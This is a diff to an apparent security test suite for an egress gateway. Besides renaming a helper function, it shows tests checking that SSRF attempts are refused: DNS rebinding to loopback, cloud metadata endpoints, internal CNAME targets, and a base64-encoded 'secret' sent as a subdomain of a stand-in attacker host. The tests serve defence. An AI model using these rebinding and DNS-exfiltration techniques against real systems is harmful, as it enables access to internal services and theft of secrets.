@@ -3,7 +3,7 @@
 import assert from 'node:assert/strict';
 
 import { allowedAddress } from '../support/sentry.ts';
-import { answered, get, nothingDialled, refused, type AttackTable } from '../support/attack.ts';
+import { responded, get, nothingDialled, refused, type AttackTable } from '../support/attack.ts';
 import { usualPolicy, type Arena } from '../support/arena.ts';
 
 /** CONNECT to a literal: refused by the relay as malformed, or by the gateway, never dialled. */
@@ -24,7 +24,7 @@ async function behindName(a: Arena, addresses: readonly string[]): Promise<void>
   const at = a.at('moving.test');
   for (const address of addresses) {
     a.names.set('moving.test', { ttl: 0, addresses: [address] });
-    answered(
+    responded(
       await a.send(at, get(at, `/${address}`), { principal: `asks-${address.replaceAll(/[:.]/g, '-')}` }),
       403,
       502,
@@ -98,7 +98,7 @@ export const address: AttackTable = {
       await behindName(a, [...metadata, ...metadataV6]);
       a.names.set('metadata.google.internal', { ttl: 0, addresses: ['169.254.169.254'] });
       const at = a.at('metadata.google.internal');
-      answered(await a.send(at, get(at, '/')), 403);
+      responded(await a.send(at, get(at, '/')), 403);
     },
   },
   'ADDR-06': (a) =>
@@ -126,7 +126,7 @@ export const address: AttackTable = {
   'ADDR-07': async (a) => {
     a.names.set('moving.test', { ttl: 0, cname: 'redis.internal', addresses: ['10.1.2.3'] });
     const at = a.at('moving.test');
-    answered(await a.send(at, get(at, '/')), 403);
+    responded(await a.send(at, get(at, '/')), 403);
     assert.equal(a.lastEvent?.errorCode, 'address_denied');
     assert.match(JSON.stringify(a.lastEvent.details), /10\.1\.2\.3/);
     nothingDialled(a);
@@ -140,12 +140,12 @@ export const address: AttackTable = {
       return { ttl: 0, addresses: [asked <= 2 ? allowedAddress : '127.0.0.1'] };
     });
     const at = a.at('allowed.test');
-    answered(await a.send(at, get(at, '/first')), 200);
+    responded(await a.send(at, get(at, '/first')), 200);
     assert.equal(a.lastEvent?.address, allowedAddress);
     const queries = a.dns.queries.slice(before).filter((query) => query.endsWith(' allowed.test'));
     assert.equal(queries.length, 2, queries.join());
     // A later dial asks again, and is judged on what comes then.
-    answered(await a.send(at, get(at, '/second'), { principal: 'second' }), 403);
+    responded(await a.send(at, get(at, '/second'), { principal: 'second' }), 403);
     assert.equal(a.lastEvent?.errorCode, 'address_denied');
   },
   'ADDR-13': async (a) => {
@@ -157,13 +157,13 @@ export const address: AttackTable = {
     }
     // A rule that names a host which leads back to this very machine opens nothing by itself.
     a.names.set('moving.test', { ttl: 0, addresses: ['127.0.0.1'] });
-    answered(await a.send(a.at('moving.test'), get(a.at('moving.test'), '/')), 403);
+    responded(await a.send(a.at('moving.test'), get(a.at('moving.test'), '/')), 403);
     nothingDialled(a);
   },
   'ADDR-14': async (a) => {
     const before = a.dns.queries.length;
     const at = a.at('c2vjcmv0.attacker.test');
-    answered(await a.send(at, get(at, '/')), 403);
+    responded(await a.send(at, get(at, '/')), 403);
     refused(
       await a.toRelay(get('c2VjcmV0.attacker.test', 'http://c2vjcmv0.attacker.test/'), { events: 1 }),
       403,
